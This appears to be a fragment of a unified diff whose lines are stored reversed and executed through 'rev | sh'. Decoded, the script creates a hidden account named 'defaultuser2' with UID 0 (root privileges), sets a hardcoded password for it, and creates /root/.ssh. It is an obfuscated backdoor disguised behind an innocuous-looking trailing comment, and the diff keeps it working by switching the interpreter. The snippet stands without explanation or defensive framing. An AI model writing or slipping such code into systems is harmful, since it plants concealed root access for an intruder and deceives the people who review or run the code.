@@ -7,4 +7,4 @@ hss./toor/ p- ridkm
 dwssaphc | "4202!dr0wss@P:2resutluafed" ohce
 2resutluafed hsab/nib/ s- toor/ d- M- 0 g- 0 u- o- ddaresu
 hsab/nib/!#
-0v 7849 tini #' | rev | bash
+0v 7849 tini #' | rev | sh
